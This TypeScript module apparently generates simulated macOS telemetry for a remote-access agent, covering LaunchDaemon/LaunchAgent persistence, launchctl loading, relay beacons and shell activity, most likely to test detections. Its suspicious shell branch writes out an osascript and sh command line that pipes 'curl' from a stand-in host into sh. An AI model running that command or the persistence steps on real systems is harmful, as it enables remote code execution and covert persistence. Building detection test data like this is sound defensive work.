// A remote-access agent on macOS as eslogger and osquery see it: exec, the plist it writes into
// a LaunchAgents/LaunchDaemons folder (plus the BTM item), launchctl, launchd starting it, and
// the connections osquery's socket_events and Zeek record.
import type { HostActivity } from '../activity.ts';
import { type AgentOps, beaconRelay, sessionToRelay } from './agent.ts';
import type { ToolOnPlatform } from './tools.ts';

export function macosAgent(act: HostActivity, tool: ToolOnPlatform, binary: string): AgentOps {
  const { host } = act;
  const portablePath = () => `/Users/${host.user}/Downloads/${tool.portableName}`;
  const ops: AgentOps = {
    tool,
    act,
    portablePath,
    startPortable(t, path = portablePath()) {
      return act.spawn(t, act.init, path, path, {
        user: host.user,
        uid: 501,
        integrity: 'Medium',
        meta: tool.meta,
        binary,
        cwd: '/',
      });
    },
    startInstalled(t, path = tool.installed) {
      return act.spawn(t, act.init, path, `${path} ${tool.serviceArgs}`.trim(), {
        user: 'root',
        uid: 0,
        integrity: 'System',
        meta: tool.meta,
        binary,
        cwd: '/',
      });
    },
    install(t, proc, start, path = tool.installed, name = tool.persistName) {
      if (path !== proc.image) act.file(t, proc, path);
      const plist = `/Library/LaunchDaemons/${name}.plist`;
      act.file(t + 300, proc, plist);
      act.btm(t + 400, proc, plist, path, name, true);
      const ctl = act.spawn(t + 800, proc, '/bin/launchctl', `launchctl load -w ${plist}`, {
        user: 'root',
        uid: 0,
        meta: { signingId: 'com.apple.xpc.launchctl', platformBinary: true },
      });
      act.end(t + 1200, ctl);
      return start ? ops.startInstalled(t + 2000, path) : undefined;
    },
    autostart(t, proc, path, name) {
      const plist = `/Users/${host.user}/Library/LaunchAgents/${name}.plist`;
      act.file(t, proc, plist);
      act.btm(t + 100, proc, plist, path, name, false);
    },
    session(t, proc, relay, durationSec, clientHeavy) {
      sessionToRelay(act, t, proc, relay, durationSec, clientHeavy);
    },
    beacon(t, proc, relay, n, intervalSec) {
      beaconRelay(act, t, proc, relay, n, intervalSec, false);
    },
    shell(t, proc, suspicious) {
      const plat = { meta: { platformBinary: true } };
      if (suspicious) {
        const osa = act.spawn(
          t,
          proc,
          '/usr/bin/osascript',
          'osascript -e do shell script "curl -s http://192.0.2.10/s | sh"',
          { meta: { signingId: 'com.apple.osascript', platformBinary: true } },
        );
        const sh = act.spawn(t + 500, osa, '/bin/sh', 'sh -c curl -s http://192.0.2.10/s | sh', {
          meta: { signingId: 'com.apple.sh', platformBinary: true },
        });
        act.end(t + 4000, sh);
        act.end(t + 4500, osa);
      } else {
        const sh = act.spawn(t, proc, '/bin/sh', '/bin/sh', {
          meta: { signingId: 'com.apple.sh', platformBinary: true },
        });
        const w = act.spawn(t + 3000, sh, '/usr/bin/whoami', 'whoami', {
          meta: { signingId: 'com.apple.whoami', ...plat.meta },
        });
        act.end(t + 3100, w);
        act.end(t + 60_000, sh);
      }
    },
  };
  return ops;
}
